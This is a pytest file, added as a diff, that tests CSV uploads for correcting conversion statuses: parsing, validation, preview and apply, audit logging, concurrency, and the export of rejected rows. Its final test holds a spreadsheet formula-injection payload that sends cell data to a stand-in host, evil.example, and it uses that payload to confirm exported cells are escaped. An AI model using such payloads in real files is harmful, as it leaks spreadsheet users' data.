@@ -1,0 +1,578 @@
+"""Corrections of conversions' statuses by CSV, through the functions that the staff's page calls."""
+
+import asyncio
+import csv
+import io
+from collections.abc import Sequence
+from contextlib import suppress
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
+from ipaddress import ip_address
+from itertools import product
+from typing import Any
+from uuid import UUID, uuid4
+
+import msgspec
+import pytest
+
+from database.actors import Actor, acting_as
+from ingest import corrections
+from ingest.conversions import take_conversions
+from ingest.correction_files import BadRow, CorrectionsError
+from ingest.corrections import ChangedSince, Preview
+from instants import iso
+from terminal import run_at
+from tests.places import CSV, JSON, MAY, SINGULAR, Place, a_callback, an_offer
+from tests.tenants.database import execute
+
+ANNA = Actor("staff:anna@example.com", ip_address("192.0.2.7"))
+STATUSES = ["Pending", "Success", "Rejected"]
+HEADER = ("ConversionId", "Status", "RejectionReason")
+
+
+def preview(place: Place, content: str | bytes) -> Preview:
+    return run_at(place.tenant.slug, lambda: corrections.preview(place.tenant, as_bytes(content)))
+
+
+def apply(place: Place, content: str | bytes, expected: str | None = None, *, now: datetime | None = None) -> Preview:
+    """As Anna, of the staff. Looks at a preview first, unless the digest of one is given."""
+    digest = expected or preview(place, content).digest
+
+    async def work() -> Preview:
+        with acting_as(ANNA):
+            return await corrections.apply(place.tenant, as_bytes(content), digest, now or datetime.now(UTC))
+
+    return run_at(place.tenant.slug, work)
+
+
+def as_bytes(content: str | bytes) -> bytes:
+    return content.encode() if isinstance(content, str) else content
+
+
+def sheet(*rows: Sequence[Any], header: Sequence[str] = HEADER) -> str:
+    text = io.StringIO()
+    csv.writer(text).writerows([header, *rows])
+    return text.getvalue()
+
+
+def a_conversion(place: Place, **fields: Any) -> str:
+    """Sent in; its id. A Success of revenue 60 on 19 May 2025, for an offer of its own unless one is given."""
+    callback = a_callback(place, fields.pop("offer", str(uuid4())), **fields)
+    assert place.send("conversions", [callback])["accepted"] == 1
+    return str(callback["conversion"]["conversionId"])
+
+
+def state(place: Place, conversion: str) -> tuple[str, str | None]:
+    """(status, reason)"""
+    (row,) = execute(
+        "SELECT status, rejection_reason FROM {s}.conversion WHERE id = $1",
+        UUID(conversion),
+        schema=place.tenant.schema,
+    )
+    return row["status"], row["rejection_reason"]
+
+
+def revenue(place: Place) -> float:
+    return float(sum(row["revenue"] for row in place.report()))
+
+
+def faults(bad: Sequence[BadRow]) -> list[tuple[int, str, str]]:
+    return [(one.row, fault.column, fault.message) for one in bad for fault in one.faults]
+
+
+# What a file may look like
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "ConversionId,Status,RejectionReason\n{id},Rejected,fraud\n",
+        "ConversionId;Status;RejectionReason\r\n{id};Rejected;fraud\r\n",
+        "ConversionId,Status,RejectionReason\r{id},Rejected,fraud\r",
+        "\ufeffConversionId;Status;RejectionReason\r\n{id};Rejected;fraud\r\n",
+        '"ConversionId","Status","RejectionReason"\n"{id}","Rejected","fraud"',
+        "conversion_id, status ,Rejection Reason\n {id} , REJECTED , fraud \n",
+        "STATUS,REJECTIONREASON,CONVERSION ID\nrejected,fraud,{id}",
+        "ClickId,ConversionId,Status,RejectionReason\n,{id},Rejected,fraud\n",
+        "ConversionId,Status,RejectionReason,,\n{id},Rejected,fraud,,\n,,,,\n\n",
+    ],
+)
+def test_a_file_is_read_as_spreadsheets_write_it(place: Place, content: str) -> None:
+    id_ = a_conversion(place)
+    done = apply(place, content.replace("{id}", id_))
+    assert (len(done.changes), len(done.unchanged), done.bad) == (1, 0, [])
+    assert state(place, id_) == ("Rejected", "fraud")
+
+
+def test_a_quoted_cell_may_hold_anything(place: Place) -> None:
+    id_ = a_conversion(place)
+    reason = 'a "chargeback", 60; then\r\nnothing <script>alert(1)</script> =1+1 ✓'
+    apply(place, sheet((id_, "Rejected", reason)))
+    assert state(place, id_) == ("Rejected", reason)
+
+
+def test_a_row_may_leave_out_its_last_cells(place: Place) -> None:
+    id_ = a_conversion(place)
+    apply(place, f"ConversionId,Status,RejectionReason\n{id_},Rejected\n")
+    assert state(place, id_) == ("Rejected", None)
+
+
+SOME = "7e0b0b1c-5c5c-4d6f-9d0a-0f6d5b1c2a11"
+ROW = f"\n{SOME},Rejected"
+
+
+@pytest.mark.parametrize(
+    ("content", "told"),
+    [
+        (b"", "Row 1 should name the columns, .*: ClickId, ConversionId, Status, RejectionReason. It is empty"),
+        (b"\n\n", "Row 1 .* It is empty"),
+        (b"PK\x03\x04\xff\xfe", "not CSV in UTF-8: in a spreadsheet, save it as «CSV UTF-8»"),
+        ("ConversionId,Status\nä,b".encode("utf-16"), "not CSV in UTF-8"),
+        ("ConversionId,Status,Colour,A\x00<b>" + ROW, "There is none called “Colour”, “A\ufffd<b>”"),
+        ("ConversionId\tStatus" + ROW, "separated by commas or semicolons"),
+        ("ConversionId,Conversion_ID,Status" + ROW, "Row 1 names a column twice: ConversionId"),
+        ("ConversionId,RejectionReason" + ROW, "Row 1 lacks the column Status"),
+        ("Status,RejectionReason" + ROW, "Row 1 lacks the column ClickId or ConversionId"),
+        ("ConversionId,Status", "no rows below its header"),
+        ("ConversionId,Status\n\n,,\n", "no rows below its header"),
+        (f'ConversionId,Status{ROW}\n\n{SOME},Reje"cted\n"a"b,c', r"Row 5 is broken: .* each \" in it be doubled"),
+        (f'ConversionId,Status{ROW}\n"{SOME},Rejected\n', "Row 3 is broken: unexpected end of data"),
+        (b"ConversionId,Status\n" + b"x" * 5 * 2**20, "larger than 5 MB"),
+        ("ConversionId,Status" + ROW * 20_001, "more than 20,000 rows"),
+    ],
+)
+def test_a_file_that_cannot_be_used_says_why(place: Place, content: str | bytes, told: str) -> None:
+    with pytest.raises(CorrectionsError, match=told) as caught:
+        preview(place, content)
+    assert "\x00" not in str(caught.value)
+    with pytest.raises(CorrectionsError, match=told):
+        apply(place, content, "0" * 32)
+
+
+@pytest.mark.parametrize(
+    ("row", "column", "told"),
+    [
+        (("", "", "Success", ""), "ClickId, ConversionId", "one of the two is needed"),
+        ((uuid4(), uuid4(), "Success", ""), "ClickId, ConversionId", "both are given: give one of the two"),
+        (("7", "", "Success", ""), "ClickId", "“7” should be an id such as 3fa85f64-5717-4562-b3fc-2c963f66afa6"),
+        (("", "x" * 1_000, "Success", ""), "ConversionId", f"“{'x' * 60}…” should be an id"),
+        (("", "\x00\u202e\n.", "Success", ""), "ConversionId", "“\ufffd\ufffd\ufffd.” should be an id"),
+        (("", uuid4(), "Approved", ""), "Status", "“Approved” should be Pending, Success or Rejected"),
+        (("", uuid4(), "", ""), "Status", "“” should be Pending, Success or Rejected"),
+        (("", uuid4(), "Success", "fraud"), "RejectionReason", "should be empty where the status is Success"),
+        (("", uuid4(), "Rejected", "x" * 10_001), "RejectionReason", "has 10,001 characters, and may have 10,000"),
+        (("", uuid4(), "Rejected", "a\x00b"), "RejectionReason", "has a NUL character in it"),
+        (("", uuid4(), "Success", "", "more"), "", "the row has 5 cells, and the header 4"),
+        ((uuid4(), "", "Success", ""), "ClickId", "no conversion has this click"),
+        (("", uuid4(), "Success", ""), "ConversionId", "there is no conversion with this id"),
+    ],
+)
+def test_a_bad_row_says_where_and_what_would_be_right(
+    place: Place, row: tuple[Any, ...], column: str, told: str
+) -> None:
+    id_ = a_conversion(place)
+    content = sheet(("", id_, "Rejected", ""), row, header=("ClickId", *HEADER))
+    shown = preview(place, content)
+    ((number, where, message),) = faults(shown.bad)
+    assert (number, where) == (3, column)
+    assert message.startswith(told)
+    assert [one.row for one in shown.changes] == [2]
+
+
+def test_all_that_is_wrong_with_a_row_is_told_at_once(place: Place) -> None:
+    (bad,) = preview(place, sheet(("7", "Done", "x\x00"))).bad
+    assert bad.told == (
+        "ConversionId: “7” should be an id such as 3fa85f64-5717-4562-b3fc-2c963f66afa6; "
+        "Status: “Done” should be Pending, Success or Rejected; RejectionReason: has a NUL character in it"
+    )
+
+
+def test_rows_are_numbered_as_in_a_spreadsheet(place: Place) -> None:
+    id_ = a_conversion(place)
+    content = f'ConversionId,Status,RejectionReason\n\n{id_},Rejected,"two\nlines"\n,,\n7,Success,\n'
+    shown = preview(place, content)
+    assert ([one.row for one in shown.changes], [one.row for one in shown.bad]) == ([3], [5])
+
+
+def test_as_many_rows_as_are_allowed_are_taken(place: Place) -> None:
+    content = sheet(*((uuid4(), "Success", "") for _ in range(20_000)))
+    assert len(preview(place, content).bad) == 20_000
+
+
+# Which conversion is meant
+
+
+def test_a_conversion_is_found_by_its_click(place: Place) -> None:
+    click = str(uuid4())
+    id_ = a_conversion(place, clickId=click)
+    a_conversion(place)
+    (change,) = apply(place, sheet((click, "Rejected"), header=("ClickId", "Status"))).changes
+    assert (str(change.id), str(change.click)) == (id_, click)
+    assert state(place, id_) == ("Rejected", None)
+
+
+def test_a_click_with_several_conversions_does_not_say_which(place: Place) -> None:
+    click = str(uuid4())
+    ids = sorted(a_conversion(place, clickId=click) for _ in range(6))
+    content = sheet((click, "", "Rejected"), ("", ids[5], "Rejected"), header=("ClickId", "ConversionId", "Status"))
+    done = apply(place, content)
+    told = f"6 conversions have this click: give the ConversionId of the one meant ({', '.join(ids[:5])}, …)"
+    assert faults(done.bad) == [(2, "ClickId", told)]
+    assert [state(place, id_)[0] for id_ in ids] == ["Success"] * 5 + ["Rejected"]
+
+
+def test_another_tenants_conversion_is_not_there(place: Place, other_place: Place) -> None:
+    click = str(uuid4())
+    id_ = a_conversion(other_place, clickId=click)
+    content = sheet((click, "", "Rejected"), ("", id_, "Rejected"), header=("ClickId", "ConversionId", "Status"))
+    assert len(apply(place, content).bad) == 2
+    assert state(other_place, id_) == ("Success", None)
+
+
+def test_a_conversion_given_twice_is_changed_once(place: Place) -> None:
+    click = str(uuid4())
+    id_ = a_conversion(place, clickId=click)
+    header = ("ClickId", "ConversionId", "Status", "RejectionReason")
+    done = apply(place, sheet(("", id_, "Rejected", "x"), (click, "", "rejected", "x"), header=header))
+    assert [(one.row, one.repeats) for one in done.changes + done.unchanged] == [(2, None), (3, 2)]
+    assert done.bad == []
+
+
+def test_rows_that_contradict_each_other_are_all_bad(place: Place) -> None:
+    click = str(uuid4())
+    first, second = a_conversion(place, clickId=click), a_conversion(place)
+    done = apply(
+        place,
+        sheet(
+            ("", first, "Rejected", ""),
+            (click, "", "Pending", ""),
+            ("", first, "Rejected", ""),
+            ("", second, "Rejected", "fraud"),
+            ("", second, "Rejected", "late"),
+            header=("ClickId", *HEADER),
+        ),
+    )
+    assert faults(done.bad) == [
+        (2, "Status", "row 3 says Pending of the same conversion"),
+        (3, "Status", "row 2 says Rejected of the same conversion"),
+        (4, "Status", "row 3 says Pending of the same conversion"),
+        (5, "RejectionReason", "row 6 gives the same conversion another reason"),
+        (6, "RejectionReason", "row 5 gives the same conversion another reason"),
+    ]
+    assert state(place, first)[0] == state(place, second)[0] == "Success"
+
+
+# What the preview shows
+
+
+def test_a_preview_shows_what_would_change_and_changes_nothing(place: Place) -> None:
+    offer, theirs, partner = an_offer(place, name="Boots"), an_offer(place, place.rival), str(uuid4())
+    place.send("offers", [offer, theirs])
+    place.send("partners", [{"id": partner, "name": "Limestone"}])
+    lost = a_conversion(place, offer=offer["id"], partnerId=partner, revenue="0.000001")
+    lost_too = a_conversion(place, offer=offer["id"], revenue="999999999.999999")
+    won = a_conversion(place, offer=offer["id"], revenue="0.1", status="Rejected", rejectionReason="late")
+    gained = a_conversion(place, offer=theirs["id"], revenue="12.50", status="Pending")
+    kept = a_conversion(place, offer=theirs["id"], revenue="7")
+    content = sheet(
+        (lost, "Rejected", "fraud"),
+        (lost_too, "Pending", ""),
+        (won, "Success", ""),
+        (gained, "Success", ""),
+        (kept, "Success", ""),
+    )
+    etag = place.get(JSON, **MAY).headers["etag"]
+    shown = preview(place, content)
+    first = shown.changes[0]
+    assert (first.row, str(first.id), first.offer, first.partner) == (2, lost, "Boots", "Limestone")
+    assert (first.advertiser, first.occurred_at.isoformat()) == ("Owner", "2025-05-19T15:36:19.756249+00:00")
+    assert (first.old_status, first.new_status, first.old_reason, first.new_reason) == (
+        *("Success", "Rejected"),
+        *(None, "fraud"),
+    )
+    assert [str(one.cost) for one in shown.changes] == ["0.000001", "999999999.999999", "0.100000", "12.500000"]
+    assert [one.row for one in shown.unchanged] == [6]
+    assert shown.moves == {
+        ("Success", "Rejected"): 1,
+        ("Success", "Pending"): 1,
+        ("Rejected", "Success"): 1,
+        ("Pending", "Success"): 1,
+    }
+    assert [(one.name, one.currency, one.conversions, one.cost) for one in shown.effects] == [
+        ("Owner", "USD", -1, Decimal("-999999999.900000")),
+        ("Rival", "USD", 1, Decimal("12.5")),
+    ]
+    assert [one.advertiser for one in shown.effects] == [place.owner, place.rival]
+    assert preview(place, content) == shown
+    assert place.get(JSON, **MAY).headers["etag"] == etag
+
+
+# What applying does
+
+
+def test_every_status_may_become_every_other(place: Place) -> None:
+    ids = {(old, new): a_conversion(place, status=old, revenue=1) for old, new in product(STATUSES, STATUSES)}
+    done = apply(place, sheet(*((id_, new, "") for (_, new), id_ in ids.items())))
+    assert (len(done.changes), len(done.unchanged)) == (6, 3)
+    assert {pair: state(place, id_)[0] for pair, id_ in ids.items()} == {(old, new): new for old, new in ids}
+    assert revenue(place) == 3
+
+
+@pytest.mark.parametrize(
+    ("old", "row", "new"),
+    [
+        (("Success", None), ("Rejected", "fraud"), ("Rejected", "fraud")),
+        (("Rejected", "late"), ("Rejected", "fraud"), ("Rejected", "fraud")),
+        (("Rejected", "late"), ("Rejected", ""), ("Rejected", "late")),
+        (("Rejected", "late"), ("Success", ""), ("Success", None)),
+        (("Rejected", "late"), ("Pending", ""), ("Pending", None)),
+    ],
+)
+def test_a_reason_goes_with_the_rejection(
+    place: Place, old: tuple[str, str | None], row: tuple[str, str], new: tuple[str, str | None]
+) -> None:
+    id_ = a_conversion(place, status=old[0], rejectionReason=old[1])
+    done = apply(place, sheet((id_, *row)))
+    assert state(place, id_) == new
+    assert len(done.changes) == (old != new)
+    assert [(one.new_status, one.new_reason) for one in done.changes + done.unchanged] == [new]
+
+
+def test_a_correction_is_in_the_next_of_every_report(place: Place) -> None:
+    offer = an_offer(place, name="Boots")
+    place.send("offers", [offer])
+    ids = [a_conversion(place, offer=offer["id"], revenue=f"0.{n}") for n in range(1, 6)]
+    before = place.get(JSON, **MAY)
+    apply(place, sheet((ids[0], "Rejected", "fraud"), (ids[1], "Pending", "")))
+    after = place.request(
+        "GET", JSON, token=place.owner_token, params=MAY, headers={"If-None-Match": before.headers["etag"]}
+    )
+    assert after.status_code == 200
+    assert after.headers["gokart-data-through"] >= before.headers["gokart-data-through"]
+    (row,) = after.json()["data"]
+    assert (row["totalConversions"], row["revenue"]) == (3, 1.2)
+    assert place.get(CSV, **MAY).text.count(",1.2,") == 1
+    items = msgspec.json.decode(place.get(SINGULAR, **MAY).content)["data"]["items"]
+    assert [(item["date"], item["cost"]) for item in items] == [("2025-05-19", 1.2)]
+    part = place.report(date_from="2025-05-19T15:30:00Z", date_to="2025-05-19T15:36:00Z")
+    assert [row["revenue"] for row in part] == [1.2]
+
+
+def test_a_correction_is_a_call_that_brought_data_in(place: Place) -> None:
+    id_, other = a_conversion(place), a_conversion(place, status="Pending")
+    content = sheet((id_, "Rejected", ""), (other, "Pending", ""), ("7", "Done", ""))
+    apply(place, content)
+    (call,) = execute("SELECT * FROM {s}.intake WHERE kind = 'corrections'", schema=place.tenant.schema)
+    assert (call["accepted"], call["duplicates"], call["rejected"], call["token"]) == (1, 1, 1, None)
+    assert place.get(JSON, **MAY).headers["gokart-data-through"] == iso(call["received_at"])
+    (reject,) = execute("SELECT * FROM {s}.intake_reject", schema=place.tenant.schema)
+    assert (reject["index"], reject["record"], reject["field"]) == (2, "7", "ConversionId, Status")
+
+
+def test_bad_rows_do_not_keep_the_good_ones_back(place: Place) -> None:
+    first, last = a_conversion(place), a_conversion(place)
+    done = apply(place, sheet((first, "Rejected", ""), (uuid4(), "Rejected", ""), (last, "Rejected", "")))
+    assert ([one.row for one in done.changes], [one.row for one in done.bad]) == ([2, 4], [3])
+    assert revenue(place) == 0
+
+
+def test_the_same_file_again_changes_nothing(place: Place) -> None:
+    content = sheet((a_conversion(place), "Rejected", "fraud"), (a_conversion(place), "Pending", ""))
+    apply(place, content)
+    etag = place.get(JSON, **MAY).headers["etag"]
+    again = apply(place, content)
+    assert (again.changes, len(again.unchanged), again.effects) == ([], 2, [])
+    assert place.get(JSON, **MAY).headers["etag"] == etag
+
+
+def test_the_audit_log_says_who_changed_what(place: Place) -> None:
+    id_ = a_conversion(place)
+    apply(place, sheet((id_, "Rejected", "fraud"), (a_conversion(place, status="Pending"), "Pending", "")))
+    (entry,) = execute("SELECT * FROM {s}.audit_log WHERE subject = 'conversion'", schema=place.tenant.schema)
+    assert (entry["actor"], str(entry["address"]), entry["action"]) == (ANNA.name, "192.0.2.7", "changed")
+    before, after = (msgspec.json.decode(entry[side]) for side in ("before", "after"))
+    assert entry["key"] == id_
+    assert (before["status"], before["rejection_reason"]) == ("Success", None)
+    assert (after["status"], after["rejection_reason"]) == ("Rejected", "fraud")
+    assert "cost" not in after
+
+
+# Corrections and callbacks
+
+
+def later(callback: dict[str, Any], sent_at: datetime, status: str) -> dict[str, Any]:
+    return callback | {
+        "id": str(uuid4()),
+        "sentAt": sent_at.isoformat(),
+        "conversion": callback["conversion"] | {"status": status},
+    }
+
+
+def test_a_callback_sent_before_a_correction_does_not_undo_it_when_it_comes_late(place: Place) -> None:
+    callback = a_callback(place, str(uuid4()), status="Pending")
+    place.send("conversions", [callback])
+    now = datetime.now(UTC)
+    apply(place, sheet((callback["conversion"]["conversionId"], "Rejected", "fraud")), now=now)
+    late = later(callback, now - timedelta(microseconds=1), "Success")
+    assert place.send("conversions", [callback, late])["duplicates"] == 2
+    assert revenue(place) == 0
+
+
+def test_a_callback_sent_after_a_correction_holds(place: Place) -> None:
+    callback = a_callback(place, str(uuid4()))
+    place.send("conversions", [callback])
+    now = datetime.now(UTC)
+    apply(place, sheet((callback["conversion"]["conversionId"], "Rejected", "fraud")), now=now)
+    assert place.send("conversions", [later(callback, now + timedelta(microseconds=1), "Success")])["accepted"] == 1
+    assert revenue(place) == 60
+    assert state(place, callback["conversion"]["conversionId"]) == ("Success", None)
+
+
+def test_a_correction_holds_over_what_it_has_seen_whatever_the_senders_clock_says(place: Place) -> None:
+    now = datetime.now(UTC)
+    ahead = later(a_callback(place, str(uuid4())), now + timedelta(hours=1), "Success")
+    place.send("conversions", [ahead])
+    content = sheet((ahead["conversion"]["conversionId"], "Rejected", ""))
+    apply(place, content, now=now)
+    assert place.send("conversions", [ahead])["duplicates"] == 1
+    assert revenue(place) == 0
+    apply(place, content.replace("Rejected", "Success"), now=now)
+    assert revenue(place) == 60
+
+
+# What has changed since the preview
+
+
+def test_a_conversion_that_changed_since_the_preview_stops_it(place: Place) -> None:
+    changed, other = a_callback(place, str(uuid4())), a_conversion(place)
+    place.send("conversions", [changed])
+    content = sheet((changed["conversion"]["conversionId"], "Success", ""), (other, "Rejected", ""))
+    digest = preview(place, content).digest
+    place.send("conversions", [later(changed, datetime.now(UTC), "Pending")])
+    refused(place, content, digest)
+    assert state(place, other) == ("Success", None)
+    assert apply(place, content).moves == {("Pending", "Success"): 1, ("Success", "Rejected"): 1}
+
+
+def test_a_conversion_that_came_since_the_preview_stops_it(place: Place) -> None:
+    click, id_ = str(uuid4()), str(uuid4())
+    content = sheet((click, "", "Rejected"), ("", id_, "Rejected"), header=("ClickId", "ConversionId", "Status"))
+    digest = preview(place, content).digest
+    a_conversion(place, clickId=click)
+    refused(place, content, digest)
+    digest = preview(place, content).digest
+    a_conversion(place, conversionId=id_)
+    refused(place, content, digest)
+    digest = preview(place, content).digest
+    a_conversion(place, clickId=click)  # now it is not clear any more which is meant
+    refused(place, content, digest)
+
+
+def test_another_file_than_that_of_the_preview_is_refused(place: Place) -> None:
+    id_ = a_conversion(place)
+    digest = preview(place, sheet((id_, "Rejected", "fraud"))).digest
+    refused(place, sheet((id_, "Rejected", "late")), digest)
+    refused(place, sheet((id_, "Rejected", "fraud")), "")
+
+
+def test_an_offer_that_went_to_another_advertiser_stops_it(place: Place) -> None:
+    offer = an_offer(place)
+    place.send("offers", [offer])
+    content = sheet((a_conversion(place, offer=offer["id"]), "Rejected", ""))
+    digest = preview(place, content).digest
+    place.send("offers", [offer | {"advertiserId": str(place.rival)}])
+    refused(place, content, digest)
+    place.send("offers", [offer | {"name": "Renamed"}])
+    assert apply(place, content, digest).effects[0].advertiser == place.owner
+
+
+def refused(place: Place, content: str, digest: str) -> None:
+    etag = place.get(JSON, **MAY).headers["etag"]
+    with pytest.raises(ChangedSince, match="changed since the preview"):
+        apply(place, content, digest or "0")
+    assert place.get(JSON, **MAY).headers["etag"] == etag
+    for table in "intake WHERE kind = 'corrections'", "audit_log WHERE subject = 'conversion'":
+        assert execute(f"SELECT * FROM {{s}}.{table}", schema=place.tenant.schema) == []
+
+
+# At the same time as the intake
+
+
+def test_corrections_and_callbacks_of_the_same_conversions_at_once_are_counted_once(place: Place) -> None:
+    offer = an_offer(place)["id"]
+    callbacks = [a_callback(place, offer, revenue=n, clickId=str(uuid4())) for n in range(1, 61)]
+    place.send("conversions", callbacks)
+    now = datetime.now(UTC)
+    by_id = sheet(*((c["conversion"]["conversionId"], STATUSES[n % 3], "") for n, c in enumerate(callbacks)))
+    clicks = [(c["conversion"]["clickId"], STATUSES[n % 2]) for n, c in enumerate(reversed(callbacks))]
+    by_click = sheet(*clicks, header=("ClickId", "Status"))
+
+    async def correct(content: str) -> None:
+        done = 0
+        while done < 5:
+            seen = await corrections.preview(place.tenant, content.encode())
+            with suppress(ChangedSince):
+                await corrections.apply(place.tenant, content.encode(), seen.digest, datetime.now(UTC))
+                done += 1
+
+    async def send(step: int) -> None:
+        for n in range(10):
+            sent = [later(c, now + timedelta(seconds=n), STATUSES[(n + step) % 3]) for c in callbacks[::step]]
+            await take_conversions(place.tenant, [msgspec.json.encode(one) for one in sent], datetime.now(UTC), None)
+
+    async def all_at_once() -> None:
+        await asyncio.gather(correct(by_id), correct(by_click), send(1), send(-1), send(2))
+
+    run_at(place.tenant.slug, all_at_once)
+    (ledger,) = execute(
+        "SELECT count(*), sum(cost) / 1000000 AS cost FROM {s}.conversion WHERE status = 'Success'",
+        schema=place.tenant.schema,
+    )
+    assert sum(row["totalConversions"] for row in place.report()) == ledger["count"]
+    assert revenue(place) == (ledger["cost"] or 0)
+
+
+def test_of_two_who_apply_the_same_preview_one_is_told_to_look_again(place: Place) -> None:
+    content = sheet(*((a_conversion(place), "Rejected", "") for _ in range(5)))
+    digest = preview(place, content).digest
+
+    async def both() -> list[Preview | BaseException]:
+        now = datetime.now(UTC)
+        return await asyncio.gather(
+            *(corrections.apply(place.tenant, content.encode(), digest, now) for _ in range(2)), return_exceptions=True
+        )
+
+    outcomes = run_at(place.tenant.slug, both)
+    assert sorted(type(one).__name__ for one in outcomes) == ["ChangedSince", "Preview"]
+    assert revenue(place) == 0
+
+
+# The rows that could not be used
+
+
+def test_the_rejects_can_be_mended_and_sent_again(place: Place) -> None:
+    first, second = a_conversion(place), a_conversion(place)
+    content = (
+        f"\ufeffStatus;ConversionId;Rejection Reason\r\nRejekted;{first};-1; \r\n"
+        f'Done;{second};"two ""lines"";\r\nof it"\r\nSuccess;7;\r\n'
+    )
+    rejects = preview(place, content).rejects_csv()
+    assert rejects.startswith(b"\xef\xbb\xbfRow;Status;ConversionId;RejectionReason;Problem\r\n2;Rejekted;")
+    table = list(csv.reader(io.StringIO(rejects.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert [row[0] for row in table] == ["Row", "2", "3", "4"]
+    assert table[1][3:] == ["'-1", "Status: “Rejekted” should be Pending, Success or Rejected"]
+    mended = rejects.replace(b"Rejekted", b"Rejected").replace(b"Done", b"Rejected")
+    done = apply(place, mended)
+    assert len(done.bad) == 1
+    assert state(place, first) == ("Rejected", "-1")
+    assert state(place, second) == ("Rejected", 'two "lines";\r\nof it')
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
+def test_no_cell_of_the_rejects_is_a_formula(place: Place, start: str) -> None:
+    bomb = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
+    content = sheet((bomb, bomb, bomb), (uuid4(), "Rejected", bomb))
+    rejects = preview(place, content).rejects_csv().decode("utf-8-sig")
+    table = list(csv.reader(io.StringIO(rejects, newline="")))
+    assert [row[1:4].count(f"'{bomb}") for row in table] == [0, 3, 1]
+    assert not [cell for row in table for cell in row if cell.startswith(tuple("=+-@\t\r\n"))]
